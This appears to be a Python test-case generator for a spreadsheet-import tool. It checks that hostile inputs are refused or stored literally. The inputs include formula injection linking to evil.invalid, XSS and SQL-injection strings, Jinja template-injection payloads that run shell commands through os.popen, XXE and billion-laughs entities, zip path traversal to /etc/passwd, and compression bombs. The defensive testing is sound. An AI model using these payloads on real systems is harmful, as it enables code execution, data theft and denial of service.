    for i, (k, f) in enumerate(FORMULAS[:6]):
        name, cc, lat, lon = COUNTRIES[i + 2]
        cid = f"formula-partner-{k}"
        partner = f + " Zork"
        if f.startswith("="):
            cs.append(Case(cid, cat, imp("f.csv"), "ran",
                           {"f.csv": table([row(cid, country=name, partner=partner, lat=lat, lon=lon)])}, group=g,
                           must_report=True, note="a formula as a partner name: the row is refused, with the reason"))
            continue
        cs.append(Case(cid, cat, imp("f.csv"), "imported",
                       {"f.csv": table([row(cid, country=name, partner=partner, lat=lat, lon=lon)])}, group=g,
                       literal=partner, country=cc, check_export=False, export_xlsx=True,
                       note="a partner name starting with + - @ (placed by coordinates): stored and drawn literally"))
    cs.append(Case("formula-french-name", cat, imp("f.csv"), "ran",
                   {"f.csv": table([row("formula-french-name", fr='=HYPERLINK("http://evil.invalid","Toulouse")')])},
                   group=g))
    cs.append(Case("formula-amount", cat, imp("f.csv"), "ran",
                   {"f.csv": table([row("formula-amount", amount="=A2*2")])}, group=g, must_report=True))
    cs.append(Case("formula-xlsx-string", cat, imp("f.xlsx"), "ran",
                   {"f.xlsx": lambda: xlsx(xlsx_rows("formula-xlsx-string", title="=1+1 texte"))}, group=g,
                   must_report=True, note="a cell that starts with '=' is refused as a formula, even in XLSX"))
    cs.append(Case("formula-xlsx-cached", cat, imp("f.xlsx"), "imported",
                   {"f.xlsx": lambda: xlsx([list(HEADER), row("formula-xlsx-cached")[:4]
                                            + [Formula('HYPERLINK("http://evil.invalid","Titre calculé")',
                                                       "Titre calculé")] + ["2019"]])}, group=g,
                   title="Titre calculé", note="a real formula: the value the spreadsheet computed is used"))
    cs.append(Case("formula-xlsx-uncached", cat, imp("f.xlsx"), "ran",
                   {"f.xlsx": lambda: xlsx([list(HEADER), row("formula-xlsx-uncached")[:4]
                                            + ["Projet formula-xlsx-uncached", "2019", Formula("1000*2")]])},
                   group=g, must_report=True))
    return cs


MARKUP_NAMES = (
    ("script", "<script>alert(1)</script>Zork"),
    ("img-onerror", "<img src=x onerror=alert(1)>Zork"),
    ("close-script", "</script><script>alert(1)</script>Zork"),
    ("svg-onload", '"><svg onload=alert(1)>Zork'),
    ("iframe", "<iframe src=javascript:alert(1)>Zork"),
    ("javascript-url", "javascript:alert(1)//Zork"),
    ("md-link", "[Zork](javascript:alert(1))"),
    ("md-image", "![Zork](http://evil.invalid/x.png)"),
    ("md-emphasis", "**Zork** _x_ `code` # titre"),
    ("html-comment", "Zork<!-- x -->"),
    ("entities", "Zork &lt;script&gt;alert(1)&lt;/script&gt; &amp;"),
    ("style", "<style>body{display:none}</style>Zork"),
    ("attr-break", "Zork' onmouseover='alert(1)"),
    ("close-title", "</textarea></title>Zork"),
    ("lt-gt", "Zork <3 & a>b"),
    ("sql", "Zork'); DROP TABLE projects;--"),
    ("ansi", "Zork\x1b[31mred\x1b[0m"),
    ("osc-title", "Zork\x1b]0;pwned\x07"),
    ("bidi", "Zork\u202eevil"),
    ("zero-width", "Zo\u200brk"),
)


def _markup() -> list[Case]:
    g, cat = "markup", "markup"
    cs: list[Case] = []
    for i, (k, name) in enumerate(MARKUP_NAMES):
        country, cc, lat, lon = COUNTRIES[i + 1]
        cid = f"markup-partner-{k}"
        cs.append(Case(cid, cat, imp("f.csv"), "ran",
                       {"f.csv": table([row(cid, country=country, partner=name, lat=lat, lon=lon)])}, group=g,
                       literal=name, literal_required=False, country=cc,
                       forbidden=("\x1b",) if "\x1b" in name else (),
                       note="markup in a partner name: refused for the row, or stored and shown escaped"))
    for k, t in (("script", "<script>alert(1)</script>Projet"), ("img", "<img src=x onerror=alert(1)>"),
                 ("close-script", "</script>"), ("md-link", "[x](javascript:alert(1))"),
                 ("md-image", "![x](http://evil.invalid/t.png)"), ("bold", "<b>gras</b> titre")):
        cid = f"markup-title-{k}"
        cs.append(Case(cid, cat, imp("f.csv"), "ran", {"f.csv": table([row(cid, title=t)])}, group=g))
    for k, n in (("script", "<script>alert(1)</script>Toulouse"), ("md-link", "[Toulouse](javascript:alert(1))")):
        cid = f"markup-french-{k}"
        cs.append(Case(cid, cat, imp("f.csv"), "ran", {"f.csv": table([row(cid, fr=n)])}, group=g))
    fname = "<img src=x onerror=alert(1)>.csv"
    cs.append(Case("markup-file-name", cat, ["import", "{dir}/" + fname, "--db", "{db}"], "imported",
                   {fname: table([row("markup-file-name", partner="Thiès")])}, group=g,
                   followups=[Followup(["batches", "--db", "{db}"], literal=fname)],
                   note="markup in the file name: listed literally by `atlas batches`"))
    return cs


RCE_ID = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"


def rce_touch(marker: str) -> str:
    return "{{ cycler.__init__.__globals__.os.popen('touch " + marker + "').read() }}Zork"


TEMPLATE_NAMES = (
    ("jinja-mul", "Zork{{7*7}}Zork", ()),
    ("jinja-rce-id", RCE_ID, ()),
    ("jinja-rce-touch", None, ()),
    ("jinja-raw", "{% raw %}Zork", ()),
    ("jinja-endraw", "Zork{% endraw %}{{7*7}}Zork", ()),
    ("jinja-comment", "Zork{# comment", ()),
    ("jinja-if", "{% if 1 %}Zork{% endif %}", ()),
    ("jinja-config", "{{ config }}Zork", ()),
    ("jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}Zork", ()),
    ("dollar", "Zork${7*7}Zork", ()),
    ("hash", "Zork#{7*7}Zork", ()),
    ("erb", "Zork<%= 7*7 %>Zork", ()),
    ("mathtext", "$x^2$ Zork", ("png", "svg")),
    ("mathtext-broken", r"$\frac{Zork", ("png",)),
    ("tex", r"\textbf{Zork} \input{/etc/passwd}", ("png",)),
    ("str-format", "Zork{0.__class__}{}", ()),
    ("percent", "Zork%(name)s%s%n", ()),
    ("braces", "Zork{{{{", ()),
    ("closing-braces", "}}Zork{{", ()),
    ("js-template", "Zork`${alert(1)}`", ()),
    ("angular", "Zork{{constructor.constructor('alert(1)')()}}", ()),
)


def _templates() -> list[Case]:
    g, cat = "templates", "template"
    cs: list[Case] = []
    for i, (k, name, render) in enumerate(TEMPLATE_NAMES):
        country, cc, lat, lon = COUNTRIES[i]
        cid = f"template-partner-{k}"
        marker = None
        if name is None:
            marker = "PWNED"
            name = rce_touch("{dir}/" + marker)
        cs.append(Case(cid, cat, imp("f.csv"), "imported",
                       {"f.csv": table([row(cid, country=country, partner=name, lat=lat, lon=lon)])}, group=g,
                       literal=name, country=cc, render=render, marker=marker,
                       note="template syntax in a partner name (placed by coordinates): stored and shown literally"))
    for k, t in (("jinja-mul", "Zork{{7*7}}Zork"), ("jinja-rce-id", RCE_ID), ("raw", "{% raw %}{#"),
                 ("dollar", "${7*7} #{7*7}"), ("mathtext", "$x^2$ $\\frac{"), ("str-format", "{0.__class__} %s")):
        cid = f"template-title-{k}"
        cs.append(Case(cid, cat, imp("f.csv"), "imported", {"f.csv": table([row(cid, title=t)])}, group=g, title=t))
    for k, n in (("jinja-mul", "Zork{{7*7}}Zork"), ("jinja-rce-id", RCE_ID), ("dollar", "Zork${7*7}")):
        cid = f"template-french-{k}"
        cs.append(Case(cid, cat, imp("f.csv"), "ran", {"f.csv": table([row(cid, fr=n)])}, group=g,
                       followups=[Followup(["review", "--db", "{db}", "--list"], literal=n)],
                       note="an unknown French name is queued; the queue lists it literally"))
    cs.append(Case("template-map-title-jinja", cat, ["map", "--db", "{db}", "--title", "Zork{{7*7}}Zork", "-o",
                                                     "{dir}/t.html"], "ok", group="cli", output="t.html",
                   output_literal=("Zork{{7*7}}Zork",)))
    cs.append(Case("template-map-title-rce", cat, ["map", "--db", "{db}", "--title", rce_touch("{dir}/PWNED"), "-o",
                                                   "{dir}/t.html"], "ok", group="cli", output="t.html",
                   marker="PWNED"))
    cs.append(Case("template-map-title-script", cat, ["map", "--db", "{db}", "--title",
                                                      "<script>alert(1)</script>Zork", "-o", "{dir}/t.html"], "ok",
                   group="cli", output="t.html", output_literal=("<script>alert(1)</script>Zork",)))
    cs.append(Case("template-map-title-mathtext-png", cat, ["map", "--db", "{db}", "--title", r"$\frac{Zork",
                                                            "-o", "{dir}/t.png"], "clean", group="cli"))
    cs.append(Case("template-map-title-mathtext-svg", cat, ["map", "--db", "{db}", "--title", "$x^2$ Zork",
                                                            "-o", "{dir}/t.svg"], "ok", group="cli", output="t.svg"))
    cs.append(Case("template-export-file-name", cat, ["export", "--db", "{db}", "-o", "Zork{{7*7}}Zork.csv"], "ok",
                   group="cli", output="Zork{{7*7}}Zork.csv"))
    cs.append(Case("template-kind-option", cat, imp("f.csv", "--kind", "{{7*7}}"), "rejected",
                   {"f.csv": table([row("template-kind-option")])}, group=g))
    return cs


def pairs_csv(rows: list[list[str]]) -> str:
    return table(rows, header=["city1", "country1", "lat1", "lng1", "city2", "country2", "lat2", "lng2"], delimiter=",")


TOULOUSE_PAIR = ["Toulouse", "France", "43.6045", "1.4440"]


def _formats() -> list[Case]:
    """Hostile names through the other parsers: pair lists, twinning directories, XLSX, ODS."""
    g, cat = "formats", "format"
    cs: list[Case] = []
    pairs = (("jinja-mul", "Zork{{7*7}}Zork", "imported"), ("rce-id", RCE_ID, "imported"),
             ("dollar", "Zork${7*7}Zork", "imported"), ("formula", "=1+1 Zork", "ran"),
             ("script", "<script>alert(1)</script>Zork", "ran"), ("md-link", "[Zork](javascript:alert(1))", "ran"))
    for i, (k, name, expect) in enumerate(pairs):
        country, cc, lat, lon = COUNTRIES[i + 2]
        cid = f"pairs-partner-{k}"
        cs.append(Case(cid, cat, imp("p.csv"), expect, {"p.csv": pairs_csv([TOULOUSE_PAIR + [name, country, lat, lon]])},
                       group=g, literal=name, literal_required=expect == "imported", country=cc,
                       check_export=k != "formula", export_xlsx=k == "formula",
                       note="a pair list (city1,country1,lat1,lng1,…) whose partner is placed by coordinates"))
    cs.append(Case("pairs-french-jinja", cat, imp("p.csv"), "ran",
                   {"p.csv": pairs_csv([["Zork{{7*7}}Zork", "France", "43.6045", "1.4440", "Dakar", "Sénégal",
                                         "14.6937", "-17.4441"]])}, group=g,
                   followups=[Followup(["review", "--db", "{db}", "--list"], literal="Zork{{7*7}}Zork")]))
    directory = "TOULOUSE (OCCITANIE - HAUTE GARONNE)\n{partner} (JAPON) - 1990\n"
    for k, name in (("jinja-mul", "ZORK{{7*7}}ZORK"), ("rce-id", RCE_ID.upper()), ("script", "<SCRIPT>ALERT(1)</SCRIPT>"),
                    ("formula", '=HYPERLINK("HTTP://EVIL.INVALID","ZORK")')):
        cid = f"dir-partner-{k}"
        cs.append(Case(cid, cat, imp("annuaire.txt"), "ran", {"annuaire.txt": directory.format(partner=name)}, group=g,
                       followups=[Followup(["review", "--db", "{db}", "--list"], literal=name)],
                       note="a twinning directory: an unknown partner is queued and listed literally, or refused"))
    cs.append(Case("dir-french-jinja", cat, imp("annuaire.txt"), "ran",
                   {"annuaire.txt": "ZORK{{7*7}}ZORK (OCCITANIE - HAUTE GARONNE)\nCOVENTRY (ROYAUME UNI) - 1955\n"},
                   group=g, followups=[Followup(["review", "--db", "{db}", "--list"], literal="ZORK{{7*7}}ZORK")]))
    for i, (k, name) in enumerate((("jinja-mul", "Zork{{7*7}}Zork"), ("rce-id", RCE_ID), ("formula", "=1+1 Zork"))):
        country, cc, lat, lon = COUNTRIES[i + 10]
        cid = f"xlsx-partner-{k}"
        cs.append(Case(cid, cat, imp("f.xlsx"), "ran" if k == "formula" else "imported",
                       {"f.xlsx": lambda cid=cid, c=country, n=name, la=lat, lo=lon:
                        xlsx(xlsx_rows(cid, country=c, partner=n, lat=la, lon=lo))},
                       group=g, literal=None if k == "formula" else name, country=cc, must_report=k == "formula",
                       check_export=k != "formula", export_xlsx=k != "formula"))
    for i, (k, name) in enumerate((("jinja-mul", "Zork{{7*7}}Zork"), ("rce-id", RCE_ID))):
        country, cc, lat, lon = COUNTRIES[i + 14]
        cid = f"ods-partner-{k}"
        cs.append(Case(cid, cat, imp("f.ods"), "imported",
                       {"f.ods": lambda cid=cid, c=country, n=name, la=lat, lo=lon:
                        ods(ods_content(ods_rows(cid, country=c, partner=n, lat=la, lon=lo)))},
                       group=g, literal=name, country=cc))
    return cs


ABSURD = (
    # (id, field, value, valid)
    ("sdg-minus-1", "sdg", "-1", False), ("sdg-0", "sdg", "0", False), ("sdg-18", "sdg", "18", False),
    ("sdg-6.5", "sdg", "6.5", False), ("sdg-1e1", "sdg", "1e1", False), ("sdg-17-18", "sdg", "17; 18", False),
    ("sdg-huge", "sdg", "9" * 30, False), ("sdg-5000-digits", "sdg", "7" * 5000, False),
    ("sdg-valid", "sdg", "ODD 6, ODD 11", True),
    ("year-minus-2000", "year", "-2000", False), ("year-0", "year", "0", False), ("year-2015.5", "year", "2015.5", False),
    ("year-99999", "year", "99999", False), ("year-1899", "year", "1899", False), ("year-roman", "year", "MMXV", False),
    ("year-5000-digits", "year", "2" * 5000, False), ("year-nan", "year", "NaN", False), ("year-inf", "year", "inf", False),
    ("year-devanagari", "year", "२०१५", None),
    ("amount-1.2.3.4", "amount", "1.2.3.4", False), ("amount-minus-5", "amount", "-5", False),
    ("amount-1e400", "amount", "1e400", False), ("amount-nan", "amount", "NaN", False), ("amount-inf", "amount", "inf", False),
    ("amount-minus-inf", "amount", "-inf", False), ("amount-5000-digits", "amount", "9" * 5000, False),
    ("amount-hex", "amount", "0x10", False), ("amount-underscore", "amount", "1_000", False),
    ("amount-1e308", "amount", "1e308", None), ("amount-parens", "amount", "(5)", False),
    ("amount-arabic-digits", "amount", "١٢٣", None),
    ("lat-91", "lat", "91", False), ("lon-200", "lon", "200", False), ("lat-minus-91", "lat", "-91", False),
    ("lat-nan", "lat", "NaN", False), ("lat-inf", "lat", "inf", False), ("lat-1e400", "lat", "1e400", False),
    ("lat-5000-digits", "lat", "4" * 5000, False),
)


def _absurd() -> list[Case]:
    g, cat = "absurd", "absurd"
    cs: list[Case] = []
    for k, fld, value, valid in ABSURD:
        cid = f"absurd-{k}"
        kw = {fld: value}
        if fld == "lat":
            kw["lon"] = "-17.4441"
        if fld == "lon":
            kw["lat"] = "14.6937"
        cs.append(Case(cid, cat, imp("f.csv"), "ran", {"f.csv": table([row(cid, **kw)])}, group=g,
                       must_report=valid is False, min_imported=1 if valid else 0,
                       note=f"{fld} {value[:20]!r}: the row is refused or the value ignored, with a message; "
                            "nothing absurd is stored"))
    cs.append(Case("absurd-end-before-start", cat, imp("f.csv"), "ran",
                   {"f.csv": table([["Toulouse", "31", "Sénégal", "Dakar", "Projet absurd-end-before-start", "2020",
                                     "2010"]], header=HEADER[:6] + ["Année de fin"])}, group=g, must_report=True))
    cs.append(Case("absurd-period-reversed", cat, imp("f.csv"), "ran",
                   {"f.csv": table([["Toulouse", "31", "Sénégal", "Dakar", "Projet absurd-period-reversed",
                                     "2020-2010"]], header=HEADER[:5] + ["Période"])}, group=g, must_report=True))
    cs.append(Case("absurd-huge-row-count-header-only", cat, imp("f.csv"), "refused",
                   {"f.csv": ";".join(HEADER) + "\n" + (";" * 9 + "\n") * 50000}, group=g,
                   note="a header and 50,000 empty rows"))
    return cs


def _xlsx_sst_bomb(path: Path, size: int = 400 * 1024 * 1024, inline: bool = False) -> None:
    head = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="{NS_MAIN}" count="1" uniqueCount="2">'
    rows = xlsx_rows("bomb")
    parts = xlsx_parts(rows, shared=True)
    strings = sheet_xml(rows, shared=True)[1]

    if inline:
        sheet_head, sheet_tail = parts["xl/worksheets/sheet1.xml"].split("</sheetData>")  # type: ignore[union-attr]

        def sheet() -> Iterator[bytes]:
            yield sheet_head.encode()
            yield b'<row r="3"><c r="E3" t="inlineStr"><is><t>'
            yield from repeated(b"A" * (1 << 20), size)()
            yield b"</t></is></c></row></sheetData>" + sheet_tail.encode()

        parts["xl/worksheets/sheet1.xml"] = sheet  # type: ignore[assignment]
    else:
        def sst() -> Iterator[bytes]:
            yield head.encode()
            for s in strings:
                yield f"<si><t>{xml_text(s)}</t></si>".encode()
            yield b"<si><t>"
            yield from repeated(b"A" * (1 << 20), size)()
            yield b"</t></si></sst>"

        # a third row whose title is the big string (index len(strings))
        sheet, _ = sheet_xml([*rows, ["", "", "", "", Raw('t="s"', f"<v>{len(strings)}</v>")]], shared=True)
        parts["xl/worksheets/sheet1.xml"] = sheet
        parts["xl/sharedStrings.xml"] = sst  # type: ignore[assignment]
    path.write_bytes(zip_parts(parts))  # type: ignore[arg-type]


def _deep_nesting(depth: int = 200_000) -> bytes:
    cell = Raw('t="inlineStr"', "<is>" + "<r>" * depth + "<t>x</t>" + "</r>" * depth + "</is>")
    return xlsx([*xlsx_rows("bomb-deep"), ["", "", "", "", cell]])


def _many_members(n: int = 20_000) -> bytes:
    parts = xlsx_parts(xlsx_rows("bomb-many-members"))
    for i in range(n):
        parts[f"xl/media/x{i}.bin"] = b""
    return zip_parts(parts)  # type: ignore[arg-type]


def _many_sheets(n: int = 5000) -> bytes:
    parts = xlsx_parts([["x"]])
    sheets = "".join(f'<sheet name="S{i}" sheetId="{i + 1}" r:id="rId{i + 10}"/>' for i in range(n))
    rels = "".join(f'<Relationship Id="rId{i + 10}" Type="{NS_REL}/worksheet" Target="worksheets/s{i}.xml"/>'
                   for i in range(n))
    parts["xl/workbook.xml"] = WORKBOOK.replace('<sheet name="Projets" sheetId="1" r:id="rId1"/>', sheets)
    parts["xl/_rels/workbook.xml.rels"] = WORKBOOK_RELS.replace("</Relationships>", rels + "</Relationships>")
    sheet = parts.pop("xl/worksheets/sheet1.xml")
    for i in range(n):
        parts[f"xl/worksheets/s{i}.xml"] = sheet
    return zip_parts(parts)  # type: ignore[arg-type]


def _ods_repeat(rows_repeated: int, cols_repeated: int) -> bytes:
    cells = f'<table:table-cell table:number-columns-repeated="{cols_repeated}" office:value-type="string"><text:p>x' \
            "</text:p></table:table-cell>"
    extra = f'<table:table-row table:number-rows-repeated="{rows_repeated}">{cells}</table:table-row>'
    return ods(ods_content(ods_rows("bomb-ods"), extra_rows=extra))


def _bombs() -> list[Case]:
    cat = "bomb"
    cs: list[Case] = []

    def add(cid: str, name: str, data: Content, expect: str = "clean", forbidden: tuple[str, ...] = (),
            note: str = "", argv: list[str] | None = None) -> None:
        cs.append(Case(cid, cat, argv or imp(name), expect, {name: data}, group="bombs", mode="fork",
                       forbidden=forbidden, note=note, timeout=120.0))

    add("bomb-xlsx-dimension-xfd1048576", "f.xlsx",
        lambda: xlsx(xlsx_rows("bomb-xlsx-dimension"), dimension="A1:XFD1048576"),
        note="2 rows, but the sheet says it spans A1:XFD1048576 (17 billion cells)")
    add("bomb-xlsx-far-cell", "f.xlsx",
        lambda: xlsx([*xlsx_rows("bomb-xlsx-far-cell")], tail='<row r="1048576"><c r="XFD1048576" t="inlineStr">'
                                                            "<is><t>x</t></is></c></row>"),
        note="one cell at XFD1048576")
    add("bomb-xlsx-shared-string-400mb", "f.xlsx", writes_path(_xlsx_sst_bomb),
        note="a 400 MB shared string compressed to ~400 kB")
    add("bomb-xlsx-inline-string-400mb", "f.xlsx", writes_path(lambda p: _xlsx_sst_bomb(p, inline=True)),
        note="a 400 MB inline string in the sheet, compressed")
    add("bomb-xlsx-billion-laughs-sst", "f.xlsx", lambda: xlsx(xlsx_rows("bomb-laughs"), sst_doctype=LAUGHS))
    add("bomb-xlsx-billion-laughs-sheet", "f.xlsx",
        lambda: xlsx([*xlsx_rows("bomb-laughs-sheet")[:1], row("bomb-laughs-sheet")[:4] + [Raw('t="inlineStr"',
                      "<is><t>&lol9;</t></is>")]], sheet_doctype=LAUGHS))
    add("bomb-xlsx-xxe", "f.xlsx", forbidden=(PASSWD,), data=
        lambda: xlsx([*xlsx_rows("bomb-xxe")[:1], row("bomb-xxe")[:4] + [Raw('t="inlineStr"',
                      "<is><t>&xxe;</t></is>")]], sheet_doctype=XXE),
        note="an external entity naming /etc/passwd: its content must never be read into the atlas")
    add("bomb-xlsx-deep-nesting", "f.xlsx", _deep_nesting, note="200,000 nested elements in a cell")
    add("bomb-xlsx-20000-members", "f.xlsx", _many_members)
    add("bomb-ods-rows-repeated", "f.ods", lambda: _ods_repeat(1_048_576, 10),
        note="a row repeated 1,048,576 times (number-rows-repeated)")
    add("bomb-ods-columns-repeated", "f.ods", lambda: _ods_repeat(1, 1_000_000_000),
        note="a cell repeated a billion times (number-columns-repeated)")
    add("bomb-ods-rows-and-columns", "f.ods", lambda: _ods_repeat(1_048_576, 16384))
    add("bomb-ods-billion-laughs", "f.ods",
        lambda: ods(ods_content(ods_rows("bomb-ods-laughs"), extra_rows="<table:table-row><table:table-cell "
                    'office:value-type="string"><text:p>&lol9;</text:p></table:table-cell></table:table-row>',
                    doctype=LAUGHS)))
    add("bomb-ods-xxe", "f.ods", forbidden=(PASSWD,), data=
        lambda: ods(ods_content(ods_rows("bomb-ods-xxe")[:1], extra_rows="<table:table-row>" + "".join(
            ods_cell(v) for v in row("bomb-ods-xxe")[:4]) + '<table:table-cell office:value-type="string"><text:p>'
            "&xxe;</text:p></table:table-cell></table:table-row>", doctype=XXE)))
    add("bomb-csv-200k-cell", "f.csv", table([row("bomb-csv-200k-cell", title="A" * 200_000)]),
        note="one 200,000-character cell")
    add("bomb-csv-200k-name", "f.csv", table([row("bomb-csv-200k-name", partner="Zork" * 50_000,
                                                  lat="14.6937", lon="-17.4441")]))
    add("bomb-csv-million-columns", "f.csv", ";".join(HEADER) + "\n" + ";" * 1_000_000 + "\n")
    add("bomb-csv-two-million-lines", "f.csv", ";".join(HEADER) + "\n" + "a\n" * 2_000_000)
    add("bomb-csv-many-partners", "f.csv",
        table([row("bomb-csv-many-partners", partner=";".join(f"Zork{i}" for i in range(20_000)))]),
        note="20,000 partners in one cell")
    add("bomb-xlsx-5000-sheets", "f.xlsx", _many_sheets, note="5,000 sheets, none with recognised columns")
    add("bomb-ods-5000-tables", "f.ods", lambda: ods(ods_content([["x"]]).replace(
        "</table:table>", "</table:table>" + "".join(f'<table:table table:name="T{i}"><table:table-row>'
                                                     "<table:table-cell/></table:table-row></table:table>"
                                                     for i in range(5000)), 1)))
    add("bomb-dev-zero", "x", b"", argv=["import", "/dev/zero", "--db", "{db}"],
        note="an endless device (size 0 when asked)")
    add("bomb-dev-urandom", "x", b"", argv=["import", "/dev/urandom", "--db", "{db}"])
    add("bomb-fifo", "f.csv", Fifo(), note="a named pipe nobody writes to: must not wait forever")
    return cs


def _damaged() -> list[Case]:
    g, cat = "damaged", "damaged"
    cs: list[Case] = []

    def good_xlsx(cid: str) -> Callable[[], bytes]:
        return lambda: xlsx(xlsx_rows(cid))

    def good_ods(cid: str) -> Callable[[], bytes]:
        return lambda: ods(ods_content(ods_rows(cid)))

    def add(cid: str, name: str, data: Content, expect: str = "refused", note: str = "") -> None:
        cs.append(Case(cid, cat, imp(name), expect, {name: data}, group=g, note=note))

    for pct in (10, 50, 90):
        add(f"dmg-xlsx-truncated-{pct}", "f.xlsx", truncated(good_xlsx(f"dmg-xlsx-t{pct}"), pct / 100))
        add(f"dmg-ods-truncated-{pct}", "f.ods", truncated(good_ods(f"dmg-ods-t{pct}"), pct / 100))
        add(f"dmg-xls-truncated-{pct}", "f.xls", truncated(lambda: fixture("regional_network.xls"), pct / 100))
    add("dmg-xlsx-truncated-last-byte", "f.xlsx", lambda: good_xlsx("dmg-last")()[:-1])
    add("dmg-xlsx-fixture-truncated", "f.xlsx", truncated(lambda: fixture("regional_network.xlsx"), 0.5))
    add("dmg-xls-header-only", "f.xls", lambda: fixture("regional_network.xls")[:512])
    add("dmg-xls-ole-zeros", "f.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096)

    def without(cid: str, *members: str) -> Callable[[], bytes]:
        def build() -> bytes:
            parts = xlsx_parts(xlsx_rows(cid))
            for m in members:
                parts.pop(m)
            return zip_parts(parts)  # type: ignore[arg-type]
        return build

    add("dmg-xlsx-no-sheet", "f.xlsx", without("dmg-no-sheet", "xl/worksheets/sheet1.xml"))
    add("dmg-xlsx-no-workbook-rels", "f.xlsx", without("dmg-no-rels", "xl/_rels/workbook.xml.rels"))
    add("dmg-xlsx-no-content-types", "f.xlsx", without("dmg-no-ct", "[Content_Types].xml"), "clean")
    add("dmg-xlsx-no-shared-strings", "f.xlsx", without("dmg-no-sst", "xl/sharedStrings.xml"))
    add("dmg-xlsx-no-styles", "f.xlsx", without("dmg-no-styles", "xl/styles.xml"), "clean")
    add("dmg-xlsx-no-workbook", "f.xlsx", without("dmg-no-wb", "xl/workbook.xml"))

    def patched(cid: str, member: str, old: str, new: str) -> Callable[[], bytes]:
        def build() -> bytes:
            parts = xlsx_parts(xlsx_rows(cid))
            text = parts[member]
            assert isinstance(text, str) and old in text, (cid, member, old)
            parts[member] = text.replace(old, new, 1)
            return zip_parts(parts)  # type: ignore[arg-type]
        return build

    add("dmg-xlsx-sst-index-out-of-range", "f.xlsx",
        patched("dmg-sst-idx", "xl/worksheets/sheet1.xml", '<c r="E2" t="s"><v>', '<c r="E2" t="s"><v>99999'), "clean")
    add("dmg-xlsx-sst-index-negative", "f.xlsx",
        patched("dmg-sst-neg", "xl/worksheets/sheet1.xml", '<c r="E2" t="s"><v>', '<c r="E2" t="s"><v>-'), "clean")
    add("dmg-xlsx-malformed-sheet", "f.xlsx",
        patched("dmg-malformed", "xl/worksheets/sheet1.xml", "</sheetData>", "<row><c></sheetData>"))
    add("dmg-xlsx-sheet-target-missing", "f.xlsx",
        patched("dmg-target", "xl/_rels/workbook.xml.rels", "worksheets/sheet1.xml", "worksheets/nope.xml"))
    add("dmg-xlsx-sheet-target-traversal", "f.xlsx",
        patched("dmg-traversal", "xl/_rels/workbook.xml.rels", "worksheets/sheet1.xml", "../../../../etc/passwd"))
    add("dmg-xlsx-bad-crc", "f.xlsx", lambda: flip_byte(good_xlsx("dmg-crc")(), "xl/sharedStrings.xml"), "clean")
    add("dmg-xlsx-encrypted-member", "f.xlsx", lambda: mark_encrypted(good_xlsx("dmg-enc")(), "xl/worksheets/sheet1.xml"))
    add("dmg-xlsx-huge-date", "f.xlsx", lambda: xlsx([list(HEADER), row("dmg-huge-date")[:5]
                                                       + [Raw('s="1"', "<v>1e308</v>")]]), "clean",
        note="a date cell holding 1e308 days")
    add("dmg-xlsx-negative-date", "f.xlsx", lambda: xlsx([list(HEADER), row("dmg-neg-date")[:5]
                                                           + [Raw('s="1"', "<v>-1000000</v>")]]), "clean")
    add("dmg-xlsx-number-nan", "f.xlsx", lambda: xlsx([list(HEADER), row("dmg-nan")[:5]
                                                        + ["2019", Raw('t="n"', "<v>NaN</v>")]]), "clean")
    add("dmg-xlsx-number-text", "f.xlsx", lambda: xlsx([list(HEADER), row("dmg-numtext")[:5]
                                                         + [Raw('t="n"', "<v>deux mille</v>")]]), "clean")
    add("dmg-xlsx-bool-2", "f.xlsx", lambda: xlsx([list(HEADER), row("dmg-bool")[:5]
                                                    + ["2019", Raw('t="b"', "<v>2</v>")]]), "clean")
    add("dmg-xlsx-error-cell", "f.xlsx", lambda: xlsx([list(HEADER), row("dmg-err")[:5]
                                                        + ["2019", Raw('t="e"', "<v>#DIV/0!</v>")]]), "clean")
    add("dmg-xlsx-bad-cell-ref-a0", "f.xlsx", patched("dmg-a0", "xl/worksheets/sheet1.xml", 'r="E2"', 'r="E0"'),
        "clean")
    add("dmg-xlsx-bad-cell-ref-garbage", "f.xlsx", patched("dmg-ref", "xl/worksheets/sheet1.xml", 'r="E2"', 'r="1E"'),
        "clean")
    add("dmg-xlsx-bad-cell-ref-xfe", "f.xlsx", patched("dmg-xfe", "xl/worksheets/sheet1.xml", 'r="E2"', 'r="XFE2"'),
        "clean")
    add("dmg-xlsx-bad-row-number", "f.xlsx", patched("dmg-rownum", "xl/worksheets/sheet1.xml", '<row r="2">',
                                                     '<row r="-5">'), "clean")
    cs.append(Case("dmg-xlsx-sheet-name-newline", cat, imp("f.xlsx", "--sheet", "Nope"), "refused",
                   {"f.xlsx": patched("dmg-sheetname", "xl/workbook.xml", 'name="Projets"',
                                      'name="Projets&#10;Traceback (most recent call last)&#10;  File &quot;x&quot;, '
                                      'line 1"')}, group=g,
                   note="a sheet name holding line breaks: the message listing the sheets stays one line"))
    add("dmg-xlsx-sheet-name-invalid", "f.xlsx", patched("dmg-sheetname-colon", "xl/workbook.xml", 'name="Projets"',
                                                         'name="a:b/c*d?[e]"'), "clean",
        note="characters Excel forbids in a sheet name (openpyxl refuses them with a multi-line message)")
    cs.append(Case("dmg-header-newline", cat, imp("f.csv"), "refused",
                   {"f.csv": table([["Toulouse", "x"]], header=["Collectivité", "Titre\nTraceback (most recent call "
                                                                               "last):\n  File \"x\", line 1"])},
                   group=g, note="header cells with line breaks: the message listing the columns stays one line"))
    add("dmg-xlsx-is-csv", "f.xlsx", table([row("dmg-xlsx-is-csv")]), "clean",
        note="a CSV file named .xlsx")
    add("dmg-csv-is-xlsx", "f.csv", good_xlsx("dmg-csv-is-xlsx"), "clean", note="an XLSX workbook named .csv")
    add("dmg-ods-is-xlsx", "f.ods", good_xlsx("dmg-ods-is-xlsx"), "clean")
    add("dmg-ods-no-content", "f.ods", lambda: ods(None))
    add("dmg-ods-malformed-content", "f.ods", lambda: ods(ods_content(ods_rows("dmg-ods-mal")).replace(
        "</table:table>", "<table:table-row>", 1)))
    add("dmg-ods-mimetype-only", "f.ods", lambda: ods(None, manifest=False))
    add("dmg-ods-wrong-mimetype", "f.ods", lambda: zip_parts({"mimetype": "application/x-evil",
                                                              "content.xml": ods_content(ods_rows("dmg-mime"))},
                                                             first_stored="mimetype"))
    add("dmg-zip-empty-archive", "f.xlsx", lambda: zip_parts({}))
    add("dmg-zip-other-archive", "f.xlsx", lambda: zip_parts({"readme.txt": "hello", "evil.exe": b"MZ\x90\x00"}))
